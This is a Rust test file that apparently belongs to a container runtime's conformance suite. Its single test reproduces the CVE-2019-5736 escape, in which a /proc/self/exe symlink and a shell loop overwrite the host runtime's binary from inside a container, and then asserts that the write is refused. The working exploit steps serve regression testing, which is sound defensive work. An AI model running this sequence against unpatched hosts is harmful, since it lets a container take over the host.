//! Attacks on the host from inside, each of which works on a runtime without the defence.

mod common;

use std::fs;

use common::{Bundle, LIMIT};
use conformance::host::{Need, skip, wait_until};

#[test]
fn the_runtimes_own_file_cannot_be_written_to_by_way_of_proc_self_exe() {
    if skip("the_runtimes_own_file_cannot_be_written_to_by_way_of_proc_self_exe", Need::Root) {
        return;
    }
    // CVE-2019-5736. The image's program is a link to /proc/self/exe: the host's runtime runs in the container,
    // and stays for as long as nobody reads from the fifo that it takes for its log file. Meanwhile a process
    // of the container opens its file, and writes to it when it is busy no more.
    // A copy stands for the host's own.
    let bundle = Bundle::new(&["sleep", "1000"]);
    let host_file = bundle.path().join("runtime");
    common::copy_runtime(&host_file);
    std::os::unix::fs::symlink("busybox", bundle.rootfs("bin/mkfifo")).unwrap();
    std::os::unix::fs::symlink("/proc/self/exe", bundle.rootfs("evil")).unwrap();
    let before = fs::read(&host_file).unwrap();
    let run = |words: &[&str]| {
        let mut command = std::process::Command::new(&host_file);
        command.arg("--root").arg(bundle.state_root()).args(words).current_dir(bundle.path());
        command.stdin(std::process::Stdio::null()).stdout(std::process::Stdio::null());
        command.stderr(fs::File::create(bundle.path().join("err")).unwrap());
        command.spawn().unwrap()
    };
    bundle.write();
    assert!(run(&["create", &bundle.id]).wait().unwrap().success());
    assert!(run(&["start", &bundle.id]).wait().unwrap().success());
    let shell = |line: &str| run(&["exec", &bundle.id, "sh", "-c", line]);
    assert!(shell("mkfifo /fifo").wait().unwrap().success());
    // becomes the runtime again, and waits for a reader of its log
    let mut evil = run(&["exec", &bundle.id, "/evil", "--log", "/fifo", "list"]);
    let mut thief = shell(
        "while true; do for p in /proc/[0-9]*; do
             test \"$(cat $p/comm 2>/dev/null)\" = evil && exec 7<$p/exe && break 2
         done; done
         cat /fifo >/dev/null
         while test -e $p/exe; do true; done
         (echo overwritten >/proc/self/fd/7) >/said 2>&1
         touch /done",
    );
    let done = bundle.rootfs("done");
    wait_until(LIMIT, "the attack", || fs::exists(&done).unwrap()).unwrap();
    evil.wait().unwrap();
    thief.wait().unwrap();
    let said = fs::read_to_string(bundle.rootfs("said")).unwrap();
    assert!(fs::read(&host_file).unwrap() == before, "the host's file was overwritten: {said}");
    assert!(said.contains("Read-only file system"), "{said}");
}
